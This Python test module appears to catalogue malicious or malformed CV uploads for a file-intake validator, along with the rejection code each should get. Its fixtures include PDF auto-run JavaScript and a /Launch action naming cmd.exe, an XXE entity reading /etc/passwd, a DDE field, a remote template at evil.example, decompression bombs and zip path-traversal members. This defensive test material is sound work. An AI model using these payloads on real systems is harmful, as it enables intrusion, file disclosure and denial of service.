"""The catalogue of bad files: row, what it is, its name, how it is made, the code of the answer.

An empty code means that it must be taken: these rows guard against false alarms.
"""

import struct
import zipfile
import zlib
from functools import cache, partial

import pikepdf
from pikepdf import Array, Dictionary, Name, ObjectStreamMode, String

from tests.conftest import GOOD_PDF
from tests.intake.samples import (
    HEIC,
    JPEG,
    PNG,
    SVG,
    bare_pdf,
    flood,
    links,
    many_pages,
    packed,
    pdf,
    photo_with_a_place,
    picture,
    run,
    text,
    types,
    word,
)


def action(kind="/JavaScript", **facts):
    return Dictionary(S=Name(kind), **(facts or {"JS": "app.alert(1)"}))


# --- PDF -------------------------------------------------------------------------------


def locked(**passwords):
    return pdf(encryption=pikepdf.Encryption(**passwords))


def on_opening(kind="/JavaScript", **how):
    def change(made):
        facts = {} if kind == "/JavaScript" else {"F": String("cmd.exe")}
        made.Root.OpenAction = made.make_indirect(action(kind, **facts))

    return pdf(change, **how)


def script_of_the_page():
    def change(made):
        made.pages[0].obj.AA = Dictionary(O=action())

    return pdf(change)


def annotated(**facts):
    def change(made):
        note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 99, 99]), **facts)
        made.pages[0].obj.Annots = Array([made.make_indirect(note)])

    return pdf(change)


def script_of_a_note():
    return annotated(Subtype=Name.Link, A=action())


def script_by_name(**how):
    def change(made):
        made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action()])))

    return pdf(change, **how)


def with_attachment(content=b"MZ"):
    def change(made):
        made.attachments["x.exe"] = content

    return pdf(change)


def adobe_form():
    def change(made):
        made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Array([]))

    return pdf(change)


@cache
def swollen_stream():
    def change(made):
        squeezed = zlib.compress(bytes(200 * 1024 * 1024), 1)
        made.pages[0].obj.Contents = pikepdf.Stream(made, squeezed, Filter=Name.FlateDecode)

    return pdf(change)


def page_of(*box):
    def change(made):
        made.pages[0].obj.MediaBox = Array(box)

    return pdf(change)


def no_pages():
    return bare_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>")


def with_view_and_links():
    def change(made):
        page = made.pages[0].obj
        made.Root.OpenAction = Array([page, Name.Fit])
        go = Dictionary(S=Name.URI, URI="https://example.org/Launch/JavaScript")
        page.Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=go)]
        )
        with made.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("How to /Launch a /JavaScript", 0))

    return pdf(change)


# --- Word ------------------------------------------------------------------------------


def part(name, content="x"):
    """A Word document with one more part."""
    return word(**{name.replace("/", "__"): content})


def linked(kind, target="http://evil.example/t.dotm"):
    outside = (kind, f'Target="{target}" TargetMode="External"')
    return word(**{"word__rels__": "", "word___rels__document_dot_xml_dot_rels": links(outside)})


def lying():
    """A Word document whose archive says a part had 10 bytes; it has far more."""
    true = b"\0" * 300_000
    honest = part("word/media/a.bin", true)
    return honest.replace(struct.pack("<L", len(true)), struct.pack("<L", 10))


def torn_picture():
    """A Word document in which the last byte of a picture changed on the way."""
    honest = packed(
        {
            "[Content_Types].xml": types(),
            "word/document.xml": text(),
            "word/media/a.bin": bytes(900) + b"the end",
        },
        stored=True,
    )
    return honest.replace(b"the end", b"the emd")


def overlapping():
    """Two entries of the list of contents that lead to the same bytes."""
    honest = packed({"[Content_Types].xml": types(), "word/a.bin": b"same", "word/b.bin": b"same"})
    places = [place for place in range(len(honest)) if honest.startswith(b"PK\x01\x02", place)]
    first, second = (honest[place + 42 : place + 46] for place in places[1:3])
    return honest[: places[2] + 42] + honest[places[2] + 42 :].replace(second, first, 1)


def member(name, attributes=0):
    info = zipfile.ZipInfo(name)
    info.external_attr = attributes
    return packed({"[Content_Types].xml": types(), "word/document.xml": text(), info: "x"})


def crowd():
    return packed({f"word/{number}.bin": b"" for number in range(10_000)}, stored=True)


def bomb():
    return part("word/media/a.bin", bytes(110 * 1024 * 1024))


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'
    "<document>&b;</document>"
)
OUTER = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    "<document>&a;</document>"
)
DDE = (
    "<w:r><w:instrText>DDE</w:instrText></w:r>"
    '<w:r><w:instrText>AUTO c:\\\\x "y"</w:instrText></w:r>'
)
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
NOTHING = "<!DOCTYPE a><a/>"
EXTRA_LAUGHS = {"word__document_dot_xml": LAUGHS}

ROWS = [
    (1, "empty", "cv.pdf", lambda: b"", "empty"),
    (5, "a program", "cv.pdf", lambda: b"MZ" + bytes(200), "program"),
    (6, "a web page", "cv.pdf", lambda: b"<html><script>", "web_page"),
    (7, "a web page with a PDF", "cv.pdf", lambda: b"<html><!--\n" + GOOD_PDF, "pdf_inside"),
    (8, "a PDF with an archive", "cv.pdf", lambda: GOOD_PDF + packed({"a": "b"}), "tail"),
    (9, "junk and a PDF", "cv.pdf", lambda: b"A" * 900 + GOOD_PDF, "pdf_inside"),
    (10, "half a PDF", "cv.pdf", lambda: GOOD_PDF[: len(GOOD_PDF) // 2], "damaged"),
    (10, "half a PDF with an end", "cv.pdf", lambda: GOOD_PDF[:150] + b"%%EOF", "damaged"),
    (11, "only the head", "cv.pdf", lambda: b"%PDF-1.7", "damaged"),
    (12, "a password", "cv.pdf", partial(locked, user="u", owner="o"), "locked"),
    (13, "no printing", "cv.pdf", partial(locked, user="", owner="o"), ""),
    (14, "a script on opening", "cv.pdf", on_opening, "script"),
    (15, "a script of the page", "cv.pdf", script_of_the_page, "script"),
    (
        15,
        "a script of a note",
        "cv.pdf",
        script_of_a_note,
        "script",
    ),
    (15, "a script by name", "cv.pdf", script_by_name, "script"),
    (
        15,
        "a script in an object stream",
        "cv.pdf",
        partial(script_by_name, object_stream_mode=ObjectStreamMode.generate),
        "script",
    ),
    (
        15,
        "a script in a locked file",
        "cv.pdf",
        partial(on_opening, encryption=pikepdf.Encryption(user="", owner="o")),
        "script",
    ),
    *[
        (16, kind, "cv.pdf", partial(on_opening, kind), "action")
        for kind in ("/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE")
    ],
    (
        16,
        "a film played by an action",
        "cv.pdf",
        partial(on_opening, "/Rendition"),
        "media",
    ),
    (17, "an attachment", "cv.pdf", with_attachment, "attachment"),
    (17, "a pinned file", "cv.pdf", partial(annotated, Subtype=Name.FileAttachment), "attachment"),
    (18, "a form of Adobe", "cv.pdf", adobe_form, "xfa"),
    (18, "a film", "cv.pdf", partial(annotated, Subtype=Name.RichMedia), "media"),
    (18, "a model", "cv.pdf", partial(annotated, Subtype=Name("/3D")), "media"),
    (19, "a view, links, bookmarks", "cv.pdf", with_view_and_links, ""),
    (22, "20,001 pages", "cv.pdf", partial(many_pages, 20_001), "many_pages"),
    (22, "exactly 300 pages", "cv.pdf", partial(many_pages, 300), ""),
    (23, "a swollen stream", "cv.pdf", swollen_stream, ""),
    (24, "a page of 366 m", "cv.pdf", partial(page_of, 0, 0, 1_036_800, 1_036_800), "page_size"),
    (24, "a page of 350,000 km", "cv.pdf", partial(page_of, 0, 0, 10**9, 10**9), "page_size"),
    (24, "a page without a size", "cv.pdf", partial(page_of, 0, 0, 0, 0), "page_size"),
    (24, "the largest page", "cv.pdf", partial(page_of, 0, 0, 14_400, 14_400), ""),
    (25, "no pages", "cv.pdf", no_pages, "no_pages"),
    (25, "an empty page", "cv.pdf", lambda: GOOD_PDF, ""),
    (26, "a photo called PDF", "cv.pdf", lambda: JPEG, "misnamed"),
    (27, "a photo of an iPhone", "scan.heic", lambda: HEIC, "iphone"),
    (27, "the same called JPEG", "scan.jpg", lambda: HEIC, "iphone"),
    (28, "a drawing", "a.svg", lambda: SVG, "drawing"),
    (28, "a drawing called PNG", "a.png", lambda: SVG, "drawing"),
    (28, "a drawing with a head", "a.svg", lambda: b'<?xml version="1.0"?>\n' + SVG, "drawing"),
    (29, "a GIF with a script", "a.gif", lambda: b"GIF89a/*" + bytes(50) + b"*/", "other_picture"),
    (29, "a photo with a program", "a.jpg", photo_with_a_place, ""),
    (30, "a flood of pixels", "a.png", flood, "pixels"),
    (31, "half a photo", "a.jpg", lambda: JPEG[: len(JPEG) // 2], "torn_picture"),
    (31, "half a drawing", "a.png", lambda: PNG[: len(PNG) // 2], "torn_picture"),
    (31, "a photo for the press", "a.jpg", partial(picture, mode="CMYK"), ""),
    (31, "a deep drawing", "a.png", partial(picture, "PNG", "I;16"), ""),
    (32, "a bomb", "cv.docx", bomb, "swollen"),
    (32, "a small bomb", "cv.docx", lambda: part("word/a.bin", bytes(20_000_000)), "swollen"),
    (33, "lying sizes", "cv.docx", lying, "torn_word"),
    (33, "a torn picture inside", "cv.docx", torn_picture, "torn_word"),
    (33, "a torn Word file", "cv.docx", lambda: word()[:300], "torn_word"),
    (33, "torn markup", "cv.docx", lambda: part("word/styles.xml", "<a><b></a>"), "torn_word"),
    (34, "10,000 parts", "cv.docx", crowd, "crowded"),
    (34, "an archive inside", "cv.docx", lambda: part("word/a.bin", packed({"a": "b"})), "nested"),
    (34, "one part over another", "cv.docx", overlapping, "overlapping"),
    (35, "a thousand laughs", "cv.docx", lambda: word(**EXTRA_LAUGHS), "strange_word"),
    (35, "a definition", "cv.docx", lambda: part("word/a.xml", NOTHING), "strange_word"),
    (35, "a part from the disk", "cv.docx", lambda: part("word/a.xml", OUTER), "strange_word"),
    *[
        (36, kind, "cv.docx", partial(linked, kind), "outside")
        for kind in ("attachedTemplate", "oleObject", "image", "frame")
    ],
    (36, "a hyperlink", "cv.docx", partial(linked, "hyperlink"), ""),
    (37, "macros", "cv.docx", lambda: part("word/vbaProject.bin"), "macros"),
    (37, "macros by type", "cv.docx", lambda: word(main=MACRO_MAIN), "macros"),
    (37, "a control", "cv.docx", lambda: part("word/activeX/activeX1.bin"), "macros"),
    (37, "an object", "cv.docx", lambda: part("word/embeddings/oleObject1.bin"), "embedded"),
    (
        37,
        "an object elsewhere",
        "cv.docx",
        lambda: part("word/a.bin", b"\xd0\xcf\x11\xe0" + bytes(99)),
        "embedded",
    ),
    (37, "a field", "cv.docx", lambda: word(DDE), "dde"),
    (38, "a locked Word file", "cv.docx", lambda: b"\xd0\xcf\x11\xe0" + bytes(600), "locked_word"),
    (38, "an old Word file", "cv.doc", lambda: b"\xd0\xcf\x11\xe0" + bytes(600), "old_word"),
    (40, "a way out", "cv.docx", lambda: member("../../x"), "escaping"),
    (40, "a whole path", "cv.docx", lambda: member("/etc/x"), "escaping"),
    (40, "a path of Windows", "cv.docx", lambda: member("C:\\x"), "escaping"),
    (40, "a link", "cv.docx", lambda: member("word/x", 0o120777 << 16), "escaping"),
    (41, "OpenDocument", "cv.odt", lambda: packed({"mimetype": "application/vnd.oasis"}), "office"),
    (41, "OpenDocument called Word", "cv.docx", lambda: packed({"mimetype": "x"}), "not_word"),
    (41, "RTF", "cv.rtf", lambda: b"{\\rtf1 hello}", "office"),
    (41, "RTF called Word", "cv.docx", lambda: b"{\\rtf1 hello}", "office"),
    (41, "Pages", "cv.pages", lambda: packed({"Index/Document.iwa": "x"}), "office"),
    (41, "Excel", "cv.xlsx", lambda: packed({"[Content_Types].xml": types(SHEET_MAIN)}), "office"),
    (
        41,
        "Excel called Word",
        "cv.docx",
        lambda: packed({"[Content_Types].xml": types(SHEET_MAIN)}),
        "not_word",
    ),
    (41, "Hangul", "cv.hwp", lambda: b"HWP Document File" + bytes(50), "office"),
    (41, "an archive", "cv.7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(50), "archive"),
    (41, "another archive", "cv.zip", lambda: packed({"cv.pdf": GOOD_PDF}), "archive"),
    (41, "an archive called PDF", "cv.pdf", lambda: packed({"cv.pdf": GOOD_PDF}), "archive"),
    (41, "a shortcut", "cv.lnk", lambda: b"L\0\0\0\x01\x14\2\0" + bytes(99), "shortcut"),
    (41, "a shortcut to a page", "cv.url", lambda: b"[InternetShortcut]\nURL=x", "shortcut"),
    (41, "a page", "cv.html", lambda: b"\n<!DOCTYPE html><html>", "web_page"),
    (41, "a script", "cv.js", lambda: b"alert(1)", "program"),
    (41, "plain text", "cv.txt", lambda: b"My life", "unknown"),
]
CAUTIONED = [
    (25, "an empty page", "cv.pdf", lambda: GOOD_PDF, {"empty_page"}),
    (
        39,
        "changes",
        "cv.docx",
        lambda: word(f'<w:del w:id="1">{run("x").replace("w:t", "w:delText")}</w:del>'),
        {"changes"},
    ),
    (39, "hidden text", "cv.docx", lambda: word(run("secret", "<w:vanish/>")), {"hidden"}),
    (
        39,
        "text no longer hidden",
        "cv.docx",
        lambda: word(run("a", '<w:vanish w:val="0"/>')),
        set(),
    ),
    (
        39,
        "comments",
        "cv.docx",
        lambda: part(
            "word/comments_dot_xml",
            text().replace("<w:body>", '<w:body><w:comment w:id="1"/>'),
        ),
        {"comments"},
    ),
]
